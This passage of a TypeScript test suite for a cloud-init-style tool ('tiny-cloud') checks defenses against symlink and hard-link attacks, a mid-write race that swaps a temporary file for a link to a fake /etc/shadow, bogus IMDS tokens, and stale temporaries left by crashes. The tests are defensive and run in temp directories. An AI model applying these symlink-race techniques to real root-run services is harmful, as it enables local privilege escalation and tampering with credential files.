      expect(ran.stderr).toContain(`userdata_runcmd: cannot keep its programs' output: append ${runcmd.root}/var/log/user-data.log: is a hard link; refused\n`)
      expect(actionLines(ran.stderr)).toContain("   ++ userdata_runcmd: done")
    })
  )

  it.scopedLive("user-data.log a link to where nothing is inside ROOT: bootcmd and runcmd run all the same, their output not kept, one line naming the log", () =>
    Effect.gen(function* () {
      const away = yield* outside
      const doc = `#cloud-config\nbootcmd:\n  - touch "$ROOT/tmp/booted"; echo boot-output\nruncmd:\n  - touch "$ROOT/tmp/ran"; echo run-output\n`
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytesOf(doc) } })
      mkdirSync(join(instance.root, "var/log"), { recursive: true })
      // its target's directory is the host's (inside ROOT, nothing): the output's temporary was made there, and the program not run
      symlinkSync(join(away, "user-data.log"), join(instance.root, "var/log/user-data.log"))
      yield* instance.run(["early"])
      const main = yield* instance.run(["main"])
      const final = yield* instance.run(["final"])
      const log = `${instance.root}/var/log/user-data.log`
      expect(main.stderr).toContain(`userdata_bootcmd: cannot keep its programs' output: append ${log}: is a symbolic link; refused\n`)
      expect(final.stderr).toContain(`userdata_runcmd: cannot keep its programs' output: append ${log}: is a symbolic link; refused\n`)
      expect(actionLines(main.stderr)).toContain("   ++ userdata_bootcmd: done")
      expect(actionLines(final.stderr)).toContain("   ++ userdata_runcmd: done")
      expect([instance.read("/tmp/booted"), instance.read("/tmp/ran")]).toEqual(["", ""])
      expect(existsSync(join(instance.root, away))).toBe(false)
      expect(readdirSync(away)).toEqual([])
      expect(readdirSync(join(instance.root, "var/log"))).toEqual(["user-data.log"])
    })
  )

  it.scopedLive("the NoCloud seed's copies behind links: each link is removed, never the file it names", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ noSimulator: true, env: { CLOUD: "nocloud" } })
      instance.write("/var/lib/cloud/seed/nocloud/meta-data", "local-hostname: n1\n")
      instance.write("/etc/victim", "untouched\n")
      mkdirSync(join(instance.root, "var/lib/cloud/nocloud"), { recursive: true })
      // a link of an absolute target (resolved inside ROOT), and one with no seed file to replace it
      symlinkSync("/etc/victim", join(instance.root, "var/lib/cloud/nocloud/meta-data"))
      symlinkSync("../../../../etc/victim", join(instance.root, "var/lib/cloud/nocloud/vendor-data"))
      expect((yield* instance.run(["early"])).code).toBe(0)
      expect(instance.read("/etc/victim")).toBe("untouched\n")
      expect(instance.read("/var/lib/cloud/nocloud/meta-data")).toBe("local-hostname: n1\n")
      expect(existsSync(join(instance.root, "var/lib/cloud/nocloud/vendor-data"))).toBe(false)
    })
  )

  it.scopedLive("status.json behind a link: the link is not followed, read or written through", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ cloud: "aws" })
      instance.write("/etc/shadow", "root:*:1::::::\n")
      mkdirSync(join(instance.root, "var/lib/cloud"), { recursive: true })
      symlinkSync("/etc/shadow", join(instance.root, "var/lib/cloud/status.json"))
      const boot = yield* instance.run(["boot"])
      expect(boot.stderr).toContain("cannot write the run record")
      expect(instance.read("/etc/shadow")).toBe("root:*:1::::::\n")
      expect(existsSync(join(instance.root, "var/lib/cloud/status.json.damaged"))).toBe(false)
    })
  )
})

describe("an error page for a token", () => {
  it.scopedLive("an HTML page is not taken for the AWS token: retried, then one line naming aws and the URL", () =>
    Effect.gen(function* () {
      const page = "<html>\n<head><title>Captive portal</title></head>\n<body>Sign in</body>\n</html>\n"
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h" }, faults: { overrides: [{ method: "PUT", path: "/latest/api/token", body: page }] }, env: { IMDS_DEADLINE: "0.5" } })
      const r = yield* instance.imds(["@hostname"])
      expect(r).toEqual({ code: 1, stdout: "", stderr: `imds: aws: cannot read http://${instance.sim!.endpoint}/latest/api/token: the answer is not a token\n` })
      expect(instance.sim!.requests.filter((q) => q.method === "PUT").length).toBeGreaterThan(1)
      expect(instance.sim!.requests.filter((q) => q.method === "GET")).toHaveLength(0)
    })
  )

  it.scopedLive("a one-line error text with spaces (a proxy's 'Service Temporarily Unavailable' answered 200) is not taken for the token either", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h" }, faults: { overrides: [{ method: "PUT", path: "/latest/api/token", body: "Service Temporarily Unavailable" }] }, env: { IMDS_DEADLINE: "0.5" } })
      const r = yield* instance.imds(["@hostname"])
      expect(r).toEqual({ code: 1, stdout: "", stderr: `imds: aws: cannot read http://${instance.sim!.endpoint}/latest/api/token: the answer is not a token\n` })
      expect(instance.sim!.requests.filter((q) => q.method === "GET")).toHaveLength(0)
    })
  )
})

describe("a crash's leftovers", () => {
  it.scopedLive("a dead writer's temporary is removed when the file is written again; a live writer's is left alone", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h.example" } })
      // a process of this program's command name (node's), as another tiny-cloud process is
      const writer = yield* Effect.acquireRelease(
        Effect.sync(() => spawn(process.execPath, ["-e", "setTimeout(() => {}, 600000)"], { stdio: "ignore" })),
        (child) => Effect.sync(() => child.kill())
      )
      instance.write("/etc/.hostname.tmp-999999999-0", "half")
      instance.write(`/etc/.hostname.tmp-${writer.pid}-0`, "someone else's, still writing")
      expect((yield* instance.run(["main"], { INIT_ACTIONS_MAIN: "set_hostname" })).code).toBe(0)
      expect(instance.read("/etc/.hostname.tmp-999999999-0")).toBeUndefined()
      expect(instance.read(`/etc/.hostname.tmp-${writer.pid}-0`)).toBe("someone else's, still writing")
      expect(instance.read("/etc/hostname")).toBe("h\n")
    })
  )

  it.scopedLive("without ROOT (a real instance's own run), a link in place of a file or directory the program makes for itself (~/.ssh) is refused too, never written or made through", () =>
    Effect.gen(function* () {
      const dir = yield* outside
      writeFileSync(join(dir, "victim"), "untouched\n")
      symlinkSync(join(dir, "victim"), join(dir, "status.json"))
      // and a directory (~/.ssh) made there: one made through a link would have the keys written where it leads
      mkdirSync(join(dir, "elsewhere"))
      symlinkSync(join(dir, "elsewhere"), join(dir, ".ssh"))
      const fs = yield* makeRootFs("")
      const r = yield* Effect.either(fs.writeAtomic(join(dir, "status.json"), "{}\n", { noFollow: true }))
      expect(r).toMatchObject({ _tag: "Left", left: { _tag: "FsError", op: "write" } })
      expect(readFileSync(join(dir, "victim"), "utf8")).toBe("untouched\n")
      const made = yield* Effect.either(fs.makeDirectory(join(dir, ".ssh"), { mode: 0o700, noFollow: true }))
      expect(made).toMatchObject({ _tag: "Left", left: { _tag: "FsError", reason: "is a symbolic link; refused" } })
    })
  )

  it.scopedLive("without ROOT (a real instance's own run), a link of another user's on the path of a write, a mkdir, a chmod or a chown is refused; root's own links are followed", (ctx) =>
    Effect.gen(function* () {
      if (process.getuid?.() !== 0) return skipAtRun(ctx, "needs root (a link of another uid)")
      const dir = yield* outside
      mkdirSync(join(dir, "etc"))
      writeFileSync(join(dir, "etc/shadow"), "root:*:20000::::::\n", { mode: 0o640 })
      mkdirSync(join(dir, "home"))
      // the user's: a link in their home to the directory root keeps its secrets in, and one to the file itself
      symlinkSync(join(dir, "etc"), join(dir, "home/conf.d"))
      symlinkSync(join(dir, "etc/shadow"), join(dir, "home/app.conf"))
      for (const link of ["conf.d", "app.conf"]) lchownSync(join(dir, "home", link), 1234, 1234)
      const fs = yield* makeRootFs("")
      const refused = yield* Effect.all([
        Effect.either(fs.writeAtomic(join(dir, "home/conf.d/x.conf"), "x\n")),
        Effect.either(fs.writeAtomic(join(dir, "home/app.conf"), "token\n")),
        Effect.either(fs.makeDirectory(join(dir, "home/conf.d/sub"))),
        Effect.either(fs.chmod(join(dir, "home/conf.d/shadow"), 0o644)),
        Effect.either(fs.chown(join(dir, "home/conf.d/shadow"), 1234, 1234))
      ])
      expect(refused.map((r) => (r._tag === "Left" ? r.left.reason : "done"))).toEqual([
        `passes through ${dir}/home/conf.d, a symbolic link of another user's (uid 1234); refused`,
        "is a symbolic link of another user's (uid 1234); refused",
        `passes through ${dir}/home/conf.d, a symbolic link of another user's (uid 1234); refused`,
        `passes through ${dir}/home/conf.d, a symbolic link of another user's (uid 1234); refused`,
        `passes through ${dir}/home/conf.d, a symbolic link of another user's (uid 1234); refused`
      ])
      // before: x.conf made in etc, the shadow file replaced, then made readable by all and the user's
      const shadow = statSync(join(dir, "etc/shadow"))
      expect([readdirSync(join(dir, "etc")), readFileSync(join(dir, "etc/shadow"), "utf8"), shadow.mode & 0o7777, shadow.uid]).toEqual([["shadow"], "root:*:20000::::::\n", 0o640, 0])
      // root's own link (an image's /var/run -> /run) is followed as before
      symlinkSync(join(dir, "etc"), join(dir, "rootlink"))
      yield* fs.writeAtomic(join(dir, "rootlink/hostname"), "h\n")
      expect(readFileSync(join(dir, "etc/hostname"), "utf8")).toBe("h\n")
    })
  )

  it.scopedLive("a link in place of what a mode or owner is given to (~/.ssh renamed by its user) is refused, its target left as it was", () =>
    Effect.gen(function* () {
      const root = yield* outside
      writeFileSync(join(root, "shadow"), "root:*:20000::::::\n")
      chmodSync(join(root, "shadow"), 0o600)
      mkdirSync(join(root, "home"))
      symlinkSync("/shadow", join(root, "home/.ssh"))
      const fs = yield* makeRootFs(root)
      // before: chmod and chown followed the link, the target made 0700 and the user's
      const r = yield* Effect.either(fs.chmod(`${root}/home/.ssh`, 0o700))
      expect(r).toMatchObject({ _tag: "Left", left: { _tag: "FsError", op: "chmod", reason: "is a symbolic link; refused" } })
      const o = yield* Effect.either(fs.chown(`${root}/home/.ssh`, 4321, 4321))
      expect(o).toMatchObject({ _tag: "Left", left: { _tag: "FsError", op: "chown", reason: "is a symbolic link; refused" } })
      expect(statSync(join(root, "shadow")).mode & 0o7777).toBe(0o600)
      expect(statSync(join(root, "shadow")).uid).toBe(process.getuid!())
      // what is no link is changed as before: a directory, and a FIFO (opened without waiting for a writer)
      mkdirSync(join(root, "home/dir"))
      yield* fs.chmod(`${root}/home/dir`, 0o700)
      expect(statSync(join(root, "home/dir")).mode & 0o7777).toBe(0o700)
      execFileSync("mkfifo", [join(root, "home/fifo")])
      yield* fs.chmod(`${root}/home/fifo`, 0o600)
      expect(statSync(join(root, "home/fifo")).mode & 0o7777).toBe(0o600)
    })
  )

  it.scopedLive("a temporary its directory's user swaps for a link to /etc/shadow while it is written (~/.ssh/authorized_keys, ~/.ssh the user's) gives the link's target neither its owner nor its mode", () =>
    Effect.gen(function* () {
      const root = yield* outside
      writeFileSync(join(root, "shadow"), "root:$6$secret:20000::::::\n")
      chmodSync(join(root, "shadow"), 0o644)
      mkdirSync(join(root, ".ssh"))
      const fs = yield* makeRootFs(root)
      // the user, who may rename and link in their own ~/.ssh: as the temporary's bytes are synced, it is moved away and a link
      // to the shadow file made under its name (an inotify watch does it as fast; this makes the race certain)
      const fsModule = createRequire(import.meta.url)("node:fs") as typeof import("node:fs")
      let swapped = 0
      yield* Effect.acquireRelease(
        Effect.sync(() => {
          const original = fsModule.fsyncSync
          fsModule.fsyncSync = ((fd: number) => {
            original(fd)
            const path = fsModule.readlinkSync(`/proc/self/fd/${fd}`)
            if (path.startsWith(join(root, ".ssh/.authorized_keys.tmp-"))) {
              swapped++
              fsModule.renameSync(path, `${path}.moved`)
              fsModule.symlinkSync(join(root, "shadow"), path)
            }
          }) as typeof fsModule.fsyncSync
          syncBuiltinESMExports()
          return original
        }),
        (original) => Effect.sync(() => ((fsModule.fsyncSync = original), syncBuiltinESMExports()))
      )
      // the user's uid as installKeys gives it (root's run); another run may give only its own
      const user = process.getuid!() === 0 ? 4321 : process.getuid!()
      yield* Effect.either(fs.writeAtomic(`${root}/.ssh/authorized_keys`, `${KEY_A}\n`, { mode: 0o600, noFollow: true, uid: user, gid: user }))
      expect(swapped).toBe(1)
      // before: chown and chmod by the temporary's name followed the link, the shadow file made the user's and 0600
      const shadow = statSync(join(root, "shadow"))
      expect([shadow.mode & 0o7777, shadow.uid]).toEqual([0o644, process.getuid!()])
      expect(readFileSync(join(root, "shadow"), "utf8")).toBe("root:$6$secret:20000::::::\n")
    })
  )

  it.scopedLive("a file replaced with its mode and owner kept keeps its setgid and setuid bits too", () =>
    Effect.gen(function* () {
      const root = yield* outside
      writeFileSync(join(root, "tool"), "old\n")
      chmodSync(join(root, "tool"), 0o6750)
      const fs = yield* makeRootFs(root)
      yield* fs.writeAtomic(`${root}/tool`, "new\n", { keep: true })
      expect(readFileSync(join(root, "tool"), "utf8")).toBe("new\n")
      expect(statSync(join(root, "tool")).mode & 0o7777).toBe(0o6750)
    })
  )

  it.scopedLive("a file edited with its mode and owner kept that holds the bytes already is left as it is: the same file, not a temporary renamed over it (an operator's, made immutable with them, is nothing to refuse)", () =>
    Effect.gen(function* () {
      const root = yield* outside
      writeFileSync(join(root, "hostname"), "web-1\n")
      const before = statSync(join(root, "hostname")).ino
      const fs = yield* makeRootFs(root)
      yield* fs.writeAtomic(`${root}/hostname`, "web-1\n", { keep: true })
      // the same inode: not replaced by a temporary renamed over it (test/system/immutable-files.test.ts: one made immutable)
      expect(statSync(join(root, "hostname")).ino).toBe(before)
      // other bytes are written as before
      yield* fs.writeAtomic(`${root}/hostname`, "web-2\n", { keep: true })
      expect([readFileSync(join(root, "hostname"), "utf8"), statSync(join(root, "hostname")).ino === before]).toEqual(["web-2\n", false])
    })
  )

  it.scopedLive("a write that fails after its temporary is made leaves the file as it was and no temporary beside it", () =>
    Effect.gen(function* () {
      const root = yield* outside
      writeFileSync(join(root, "hostname"), "old\n")
      const fs = yield* makeRootFs(root)
      // an owner no system call takes: the write fails once its bytes are in the temporary
      const r = yield* Effect.either(fs.writeAtomic(`${root}/hostname`, "new\n", { uid: 2 ** 32, gid: 0 }))
      expect(r).toMatchObject({ _tag: "Left", left: { _tag: "FsError", op: "write" } })
      expect(readdirSync(root)).toEqual(["hostname"])
      expect(readFileSync(join(root, "hostname"), "utf8")).toBe("old\n")
    })
  )

  // a boot starts the same programs in the same order: a phase after a crash may well have the pid, and make the names, its crashed run had
  it.scopedLive("a crashed run's temporary named with this process's own pid is removed, and the file written, not refused as already there", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h.example" } })
      const leftovers = [0, 1, 2, 3].map((n) => `/etc/.hostname.tmp-${process.pid}-${n}`)
      for (const file of leftovers) instance.write(file, "half")
      expect((yield* instance.run(["main"], { INIT_ACTIONS_MAIN: "set_hostname" })).code).toBe(0)
      expect(instance.read("/etc/hostname")).toBe("h\n")
      expect(leftovers.map((file) => instance.read(file))).toEqual(leftovers.map(() => undefined))
    })
  )

  // after a reboot the pid of a crashed phase is often another program's: a daemon's, a kernel thread's
  it.scopedLive("a dead writer's temporary is removed though its pid is now another program's", () =>
    Effect.gen(function* () {
      const other = yield* Effect.acquireRelease(
        Effect.sync(() => spawn("sleep", ["600"], { stdio: "ignore" })),
        (child) => Effect.sync(() => child.kill())
      )
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h.example" } })
      instance.write(`/etc/.hostname.tmp-${other.pid}-0`, "half")
      expect((yield* instance.run(["main"], { INIT_ACTIONS_MAIN: "set_hostname" })).code).toBe(0)
      expect(instance.read(`/etc/.hostname.tmp-${other.pid}-0`)).toBeUndefined()
      expect(instance.read("/etc/hostname")).toBe("h\n")
    })
  )

  // a killed writer whose parent has not reaped it yet: the resident process killed outright, until init gets to it (on a loaded
  // machine, or under an init that reaps late, a second or more); the phase run next may well write then
  it.scopedLive("a killed writer's temporary is removed though its process is a zombie not reaped yet", () =>
    Effect.gen(function* () {
      // a process of this program's command name (node's) that has ended, under a parent that never waits for it
      const parent = yield* Effect.acquireRelease(
        Effect.sync(() => spawn("sh", ["-c", '"$NODE" -e 0 & echo $!; exec sleep 600'], { env: { NODE: process.execPath }, stdio: ["ignore", "pipe", "ignore"] })),
        (child) => Effect.sync(() => child.kill())
      )
      const zombie = Number(yield* Effect.async<string>((resume) => void parent.stdout.once("data", (c: Buffer) => resume(Effect.succeed(c.toString())))))
      const state = () => readFileSync(`/proc/${zombie}/stat`, "latin1").replace(/^.*\) /s, "")[0]
      while (state() !== "Z") yield* Effect.sleep("20 millis")
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h.example" } })
      instance.write(`/etc/.hostname.tmp-${zombie}-0`, "half")
      expect((yield* instance.run(["main"], { INIT_ACTIONS_MAIN: "set_hostname" })).code).toBe(0)
      // before: kept, the zombie taken for a live writer
      expect(instance.read(`/etc/.hostname.tmp-${zombie}-0`)).toBeUndefined()
      expect(instance.read("/etc/hostname")).toBe("h\n")
    })
  )

  // after a reboot the pid of a crashed writer may be a thread's of a live process (kill(2) takes a thread's id too)
  it.scopedLive("a dead writer's temporary is removed though its pid is now a thread's id", () =>
    Effect.gen(function* () {
      const thread = readdirSync(`/proc/${process.pid}/task`).map(Number).find((tid) => tid !== process.pid)
      expect(thread).toBeDefined()
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h.example" } })
      instance.write(`/etc/.hostname.tmp-${thread}-0`, "half")
      expect((yield* instance.run(["main"], { INIT_ACTIONS_MAIN: "set_hostname" })).code).toBe(0)
      expect(instance.read(`/etc/.hostname.tmp-${thread}-0`)).toBeUndefined()
      expect(instance.read("/etc/hostname")).toBe("h\n")
    })
  )
})

// a PID namespace without a /proc of its own (unshare -p, as the crash suite runs a phase): /proc/PID there is the host's process of that number
describeSystem("a crash's leftovers, in a PID namespace whose /proc is the host's", { tools: { unshare: "util-linux" }, root: true }, () => {
  it.scopedLive("a live writer's temporary is left alone though the host's process of its pid is a thread", () =>
    Effect.gen(function* () {
      // a thread of this process: on the host not a process, in the namespace the pid the writer gets
      const thread = readdirSync(`/proc/${process.pid}/task`).map(Number).find((tid) => tid !== process.pid)
      expect(thread).toBeDefined()
      // a seed of its own: the phase runs in another process while this one waits for it
      const instance = yield* makeTestInstance({ noSimulator: true, env: { CLOUD: "nocloud" } })
      instance.write("/var/lib/cloud/seed/nocloud/meta-data", "local-hostname: h.example\n")
      instance.write(`/etc/.hostname.tmp-${thread}-0`, "someone else's, still writing")
      const script = `echo $((T - 1)) > /proc/sys/kernel/ns_last_pid; "$NODE" -e "setTimeout(() => {}, 60000)" & [ $! = "$T" ] || exit 99; "$NODE" "$PROGRAM" main; status=$?; kill $!; exit $status`
      const env = { ...instance.env, INIT_ACTIONS_MAIN: "set_hostname", TINY_CLOUD_CODE_CACHE: "off", T: String(thread), NODE: process.execPath, PROGRAM }
      // a UTS namespace of its own too: the phase runs this machine's real hostname, which must name the namespace, not the host
      expect(spawnSync("unshare", ["-f", "-p", "-u", "sh", "-c", script], { env, stdio: "ignore" }).status).toBe(0)
      expect(instance.read("/etc/hostname")).toBe("h\n")
      expect(instance.read(`/etc/.hostname.tmp-${thread}-0`)).toBe("someone else's, still writing")
    })
  )
})

// (a worker's umask cannot be set: the test process's own, 022, narrows none of these modes)
describe("modes the program gives what it makes", () => {
  it.scopedLive("directories made for a file are 0755: others may enter them, never write in them ($TINY_CLOUD_VAR world-writable would let anyone replace the user-data root runs)", () =>
    Effect.gen(function* () {
      const root = yield* outside
      const fs = yield* makeRootFs(root)
      yield* fs.writeAtomic(`${root}/var/lib/cloud/user-data`, "x", { mode: 0o600 })
      expect(["var", "var/lib", "var/lib/cloud"].map((d) => (statSync(join(root, d)).mode & 0o7777).toString(8))).toEqual(["755", "755", "755"])
      expect(statSync(join(root, "var/lib/cloud/user-data")).mode & 0o7777).toBe(0o600)
    })
  )

  it.scopedLive("a file made to take a program's output (createFile) is root's alone (0600); a temporary directory and the directory made for it are 0700", () =>
    Effect.gen(function* () {
      const root = yield* outside
      const fs = yield* makeRootFs(root)
      mkdirSync(join(root, "var"))
      yield* fs.createFile(`${root}/var/.user-data.log.tmp-1-0`)
      expect(statSync(join(root, "var/.user-data.log.tmp-1-0")).mode & 0o7777).toBe(0o600)
      const made = yield* fs.makeTempDirectory(`${root}/run/tiny-cloud/mnt-`)
      expect(statSync(join(root, "run/tiny-cloud")).mode & 0o7777).toBe(0o700)
      expect(statSync(made).mode & 0o7777).toBe(0o700)
    })
  )

  it("a mode or owner given to a file itself is never given through a link put in its place after the path was checked: it fails", () => {
    const dir = mkdtempSync(join(tmpdir(), "tiny-cloud-on-itself-"))
    try {
      writeFileSync(join(dir, "shadow"), "root:*:20000::::::\n", { mode: 0o600 })
      symlinkSync(join(dir, "shadow"), join(dir, "link"))
      expect(() => onItself(join(dir, "link"), (fd) => fchmodSync(fd, 0o644))).toThrow(expect.objectContaining({ code: "ELOOP" }))
      expect(statSync(join(dir, "shadow")).mode & 0o7777).toBe(0o600)
    } finally {
      rmSync(dir, { recursive: true, force: true })
    }
  })
})

describe("the saved user-data", () => {
  it.scopedLive("a link in its place (left in the image, to /etc/shadow) is never written through: the link goes, the user-data is saved in a file of its own, the file the link named is untouched", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h.example", userData: bytesOf("#cloud-config\n{}\n") } })
      instance.write("/etc/shadow", "root:*:1::::::\n")
      mkdirSync(join(instance.root, "var/lib/cloud"), { recursive: true })
      symlinkSync("/etc/shadow", join(instance.root, "var/lib/cloud/user-data"))
      expect((yield* instance.run(["early"])).code).toBe(0)
      expect(instance.read("/etc/shadow")).toBe("root:*:1::::::\n")
      expect(lstatSync(join(instance.root, "var/lib/cloud/user-data")).isFile()).toBe(true)
      expect(instance.read("/var/lib/cloud/user-data")).toBe("#cloud-config\n{}\n")
    })
  )

  it.scopedLive("one grown past USERDATA_MAX_BYTES since it was saved is not read: taken as no user-data, in one line", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h.example" }, env: { USERDATA_MAX_BYTES: "16" } })
      instance.write("/var/lib/cloud/user-data", "#cloud-config\nhostname: from-the-saved-one\n")
      const main = yield* instance.run(["main"])
      expect(main.stderr).toContain(`\nmissing_userdata: read ${instance.root}/var/lib/cloud/user-data: larger than 16 bytes; taken as no user-data\n`)
      expect(instance.read("/etc/hostname")).toBe("h\n")
    })
  )

  it.scopedLive("one left by an earlier instance, which early failed to replace (its mark in the run directory), is not this boot's: main says no user-data was saved", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h.example" } })
      instance.write("/var/lib/cloud/user-data", "#cloud-config\nhostname: from-the-earlier-instance\n")
      instance.write("/run/tiny-cloud/user-data.unsaved", "")
      const main = yield* instance.run(["main"])
      expect(main.stderr).toContain("missing_userdata: no user-data found (save_userdata failed in early: what the cloud gave, if anything, was not saved)\n")
      expect(instance.read("/etc/hostname")).toBe("h\n")
    })
  )
})

describe("appends to the program's own logs", () => {
  it.scopedLive("a log already there with a wider mode is given the append's mode (user-data.log's 0600): what the user's programs printed may be secret", () =>
    Effect.gen(function* () {
      const root = yield* outside
      writeFileSync(join(root, "user-data.log"), "before\n")
      chmodSync(join(root, "user-data.log"), 0o644)
      const fs = yield* makeRootFs(root)
      const from = yield* fs.temporaryOf(`${root}/user-data.log`)
      writeFileSync(from, "secret\n")
      yield* fs.appendFrom(`${root}/user-data.log`, from, { mode: 0o600 })
      expect(readFileSync(join(root, "user-data.log"), "utf8")).toBe("before\nsecret\n")
      expect(statSync(join(root, "user-data.log")).mode & 0o7777).toBe(0o600)
      expect(readdirSync(root)).toEqual(["user-data.log"])
    })
  )

  it.scopedLive("an append whose output a background process goes on writing into faster than it is copied (`yes &` in a runcmd) copies what the output held as it began, and ends", () =>
    Effect.gen(function* () {
      const root = yield* outside
      writeFileSync(join(root, "user-data.log"), "before\n")
      const fs = yield* makeRootFs(root)
      const from = yield* fs.temporaryOf(`${root}/user-data.log`)
      writeFileSync(from, Buffer.alloc(3 * MiB + 1, "y"))
      // the background process: each read of the output finds a MiB more written into it (bounded, so that without the bound the test ends)
      const fsModule = createRequire(import.meta.url)("node:fs") as typeof import("node:fs")
      const writer = fsModule.openSync(from, "a")
      const ino = fsModule.fstatSync(writer).ino
      let grown = 0
      yield* Effect.acquireRelease(
        Effect.sync(() => {
          const original = fsModule.readSync
          fsModule.readSync = ((fd: number, ...rest: Array<unknown>) => {
            if (grown < 64 && fsModule.fstatSync(fd).ino === ino) {
              grown++
              fsModule.writeSync(writer, Buffer.alloc(MiB, "n"))
            }
            return (original as (...a: Array<unknown>) => number)(fd, ...rest)
          }) as typeof fsModule.readSync
          syncBuiltinESMExports()
          return original
        }),
        (original) => Effect.sync(() => ((fsModule.readSync = original), syncBuiltinESMExports(), fsModule.closeSync(writer)))
      )
      yield* fs.appendFrom(`${root}/user-data.log`, from, { mode: 0o600 })
      const log = readFileSync(join(root, "user-data.log"))
      expect([log.length, log.includes("n")]).toEqual([7 + 3 * MiB + 1, false])
    })
  )
})
